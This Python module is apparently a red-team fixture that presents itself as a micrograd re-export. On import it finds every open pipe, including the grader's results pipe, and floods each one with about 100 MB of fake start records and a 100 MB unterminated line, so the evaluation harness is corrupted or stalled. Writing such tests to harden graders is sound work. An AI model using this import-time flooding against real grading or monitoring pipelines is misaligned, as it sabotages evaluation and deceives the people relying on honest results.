"""Red team: flood every pipe the process may write to: 100 MB of start records, then a 100 MB line with no end.

Writes are non-blocking and give up after 30 s, so nothing waits forever on a reader that stopped reading.
"""
import os
import time

from micrograd.engine import Value

__all__ = ["Value"]

HALF = 100 * 10**6
SECONDS = 30
STARTS = b'{"start": 0}\n' * 80_000
ENDLESS = b"x" * 2**20


def _pipes():
    """Open file descriptors above stderr that are pipes (the grader's results pipe among them)."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                found.append(fd)
        except OSError:
            continue
    return found


def _flood(fd, block, total, deadline):
    written = 0
    while written < total and time.monotonic() < deadline:
        try:
            written += os.write(fd, block)
        except BlockingIOError:
            time.sleep(0.001)


_deadline = time.monotonic() + SECONDS
for _fd in _pipes():
    try:
        os.set_blocking(_fd, False)
        _flood(_fd, STARTS, HALF, _deadline)
        _flood(_fd, ENDLESS, HALF, _deadline)
        os.set_blocking(_fd, True)
    except OSError:  # the read end of a pipe, or a closed one
        continue
